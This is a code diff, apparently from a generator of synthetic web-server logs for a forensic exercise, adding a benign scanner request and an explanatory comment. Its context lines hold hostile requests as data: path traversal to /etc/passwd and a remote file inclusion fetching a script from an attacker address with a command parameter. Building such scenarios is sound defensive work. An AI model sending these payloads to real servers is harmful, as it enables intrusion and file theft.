@@ -195,6 +195,13 @@ static void scenario(int part)
 	/* scanners: failed exploit attempts everywhere */
 	for (int s = 0; s < 3; s++)
 		http(T(2, 1, 0, s), "192.0.2.99", SERVERS[s], "GET", "/mail/index.php?lang=../../etc/passwd", 404, NULL, NULL, NULL, NULL, false, txn++);
+	/* a scanner asks every server for "/": srv 0 and 1 answer before the
+	 * widget's deployment, srv 2 after it, so only its copy has the widget.
+	 * The widget is on every server's other pages: not tampering (it once
+	 * stretched srv 2's tamper window to the deployment) */
+	for (int s = 0; s < 3; s++)
+		http(T(s == 2 ? 9 : 2, 2, 0, s), "192.0.2.98", SERVERS[s], "GET", "/", 200, NULL, NULL, NULL,
+		     s == 2 ? "https://cdn.widgets.example.com/analytics.js" : NULL, false, txn++);
 	/* the attack on srv 2 (10.0.1.13) */
 	http(T(3, 12, 0, 0), "203.0.113.66", SERVERS[2], "GET", "/phpmyadmin/index.php?x=../../etc/passwd", 404, NULL, NULL, NULL, NULL, false, txn++);
 	http(T(4, 17, 31, 2), "203.0.113.66", SERVERS[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200, NULL, NULL, NULL, NULL, true, txn++);
